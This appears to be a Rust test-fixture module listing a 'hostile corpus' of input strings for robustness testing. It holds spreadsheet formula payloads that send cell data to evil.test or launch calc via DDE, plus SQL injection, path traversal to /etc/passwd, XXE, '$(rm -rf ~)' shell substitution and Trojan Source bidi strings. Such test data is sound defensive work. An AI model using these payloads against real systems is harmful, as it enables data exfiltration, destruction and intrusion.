//! The second half of the hostile corpus: spreadsheet formulas (OWASP "CSV Injection"), more
//! bidirectional and invisible characters, broken encodings as they arrive after a lossy
//! decode, SQL, paths, markup, and very long text.

/// Text decoded with replacement characters, as bytes that are not UTF-8 arrive.
fn lossy(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

pub(super) fn values() -> Vec<(&'static str, String)> {
    let mut v: Vec<(&'static str, String)> = vec![
        // Spreadsheet formulas and their look-alikes
        ("formula sum", "=1+1".into()),
        (
            "formula hyperlink",
            "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")".into(),
        ),
        ("formula dde", "=cmd|' /C calc'!A0".into()),
        (
            "formula dde msexcel",
            "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\calc.exe'!''".into(),
        ),
        (
            "formula webservice",
            "=WEBSERVICE(\"http://evil.test/\"&A1)".into(),
        ),
        (
            "formula importxml",
            "=IMPORTXML(CONCAT(\"http://evil.test/?\",A1),\"//a\")".into(),
        ),
        ("formula plus", "+1+1".into()),
        ("formula plus cmd", "+cmd|' /C calc'!A0".into()),
        ("formula minus", "-1+1".into()),
        ("formula minus cmd", "-2+3+cmd|' /C calc'!A0".into()),
        ("formula at", "@SUM(1+1)*cmd|' /C calc'!A0".into()),
        ("formula at plain", "@example".into()),
        ("formula tab", "\t=1+1".into()),
        ("formula cr", "\r=1+1".into()),
        ("formula lf", "\n=1+1".into()),
        ("formula space first", " =1+1".into()),
        ("formula quoted", "'=1+1".into()),
        ("formula two quotes", "''=1+1".into()),
        ("formula fullwidth equals", "＝1+1".into()),
        ("formula after comma", "a,=1+1".into()),
        ("formula after semicolon", "a;=1+1".into()),
        ("formula after quote", "\"=1+1".into()),
        ("phone number e164", "+15125550123".into()),
        ("phone number dashes", "-512-555-0123".into()),
        ("only equals", "=".into()),
        ("only at", "@".into()),
        ("only minus", "-".into()),
        // Bidirectional and invisible
        ("rtl embedding", "\u{202b}abc\u{202c}".into()),
        ("ltr override", "\u{202d}abc\u{202c}".into()),
        ("rtl isolate", "\u{2067}abc\u{2069}".into()),
        ("first strong isolate", "\u{2068}abc\u{2069}".into()),
        ("rtl override formula", "\u{202e}1+1=".into()),
        (
            "trojan source",
            "admin\u{202e}\u{2066}// comment\u{2069}\u{2066}".into(),
        ),
        ("zero-width joiner", "a\u{200d}b".into()),
        ("zero-width non-joiner", "a\u{200c}b".into()),
        ("word joiner", "a\u{2060}b".into()),
        ("soft hyphen", "da\u{ad}na".into()),
        ("mongolian vowel separator", "a\u{180e}b".into()),
        ("tag characters", "a\u{e0061}\u{e0062}".into()),
        ("variation selector", "a\u{fe0f}".into()),
        ("paragraph separator", "a\u{2029}b".into()),
        ("next line", "a\u{85}b".into()),
        ("private use", "\u{e000}\u{f8ff}".into()),
        ("noncharacter", "\u{fffe}\u{ffff}".into()),
        ("replacement char", "\u{fffd}".into()),
        // Encodings as they arrive after a lossy decode
        ("lossy lone high surrogate", lossy(&[0xed, 0xa0, 0x80])),
        ("lossy lone low surrogate", lossy(&[0xed, 0xb0, 0x80])),
        ("lossy overlong slash", lossy(&[0xc0, 0xaf])),
        ("lossy overlong nul", lossy(&[0xc0, 0x80])),
        ("lossy latin-1", lossy(b"Jos\xe9 M\xfcller")),
        ("lossy truncated", lossy(&[0x61, 0xe2, 0x82])),
        ("lossy utf-16 bom", lossy(&[0xff, 0xfe, 0x61, 0x00])),
        ("lossy 0xff", lossy(&[0xff])),
        ("windows-1252 quotes", lossy(b"\x93quoted\x94")),
        ("mojibake", "JosÃ© MÃ¼ller".into()),
        // Combining marks, scripts, emoji
        ("combining overload", format!("a{}", "\u{301}".repeat(200))),
        ("devanagari", "देवनागरी".into()),
        ("thai", "สวัสดี".into()),
        ("korean jamo", "\u{1100}\u{1161}\u{11a8}".into()),
        ("hebrew with points", "שָׁלוֹם".into()),
        ("turkish dotless i", "ıİ".into()),
        ("german sharp s", "Straße".into()),
        ("ligature", "ﬁle".into()),
        ("skin tone emoji", "👍🏽".into()),
        ("keycap", "1\u{fe0f}\u{20e3}".into()),
        ("emoji name", "Dana 😀 Reyes".into()),
        ("math alphanumerics", "𝐃𝐚𝐧𝐚".into()),
        ("homoglyph cyrillic a", "dаna.reyes".into()),
        // SQL and FTS, more shapes
        ("sql stacked", "1; DELETE FROM audit_log".into()),
        ("sql attach", "'; ATTACH DATABASE '/tmp/x' AS x; --".into()),
        ("sql load extension", "load_extension('/tmp/evil')".into()),
        ("sql hex blob", "X'00ff'".into()),
        ("sql comment block", "/* */".into()),
        ("sql double dash only", "--".into()),
        ("sql quote escape", "O''Brien".into()),
        ("sql null word", "NULL".into()),
        ("fts match all", "\"\" OR \"\"".into()),
        // Paths and URLs
        ("dot dot", "..".into()),
        ("dot", ".".into()),
        ("encoded traversal", "..%2f..%2fetc%2fpasswd".into()),
        ("unc path", "\\\\server\\share\\x".into()),
        ("home path", "~/.bashrc".into()),
        ("device name", "CON".into()),
        ("file url", "file:///etc/passwd".into()),
        ("nul in path", "a\0/../b".into()),
        ("proc path", "/proc/self/environ".into()),
        // Markup and interpolation
        ("markdown link", "[click](javascript:alert(1))".into()),
        ("html comment", "<!--".into()),
        ("iframe", "<iframe src=//evil.test>".into()),
        ("style", "<style>*{display:none}</style>".into()),
        ("shell substitution", "$(rm -rf ~)".into()),
        ("backticks", "`id`".into()),
        ("format string", "%s%s%n%x".into()),
        ("rust format", "{0}{}".into()),
        ("json", "{\"a\":1}".into()),
        (
            "xml entity",
            "<!ENTITY x SYSTEM \"file:///etc/passwd\">".into(),
        ),
        ("crlf injection", "a\r\nSet-Cookie: x=1".into()),
        ("ansi clear screen", "\u{1b}[2J".into()),
        ("c1 control", "\u{9b}31m".into()),
        // Very long
        ("65 characters", "a".repeat(65)),
        ("256 characters", "b".repeat(256)),
        ("100,000 characters", "c".repeat(100_000)),
        ("10,000 combining marks", "\u{301}".repeat(10_000)),
        ("10,000 equals signs", "=".repeat(10_000)),
        ("10,000 rtl overrides", "\u{202e}".repeat(10_000)),
        ("10,000 newlines", "\n".repeat(10_000)),
        ("10,000 nuls", "\0".repeat(10_000)),
    ];
    v.push(("long formula", format!("={}", "1+".repeat(5_000)) + "1"));
    v
}
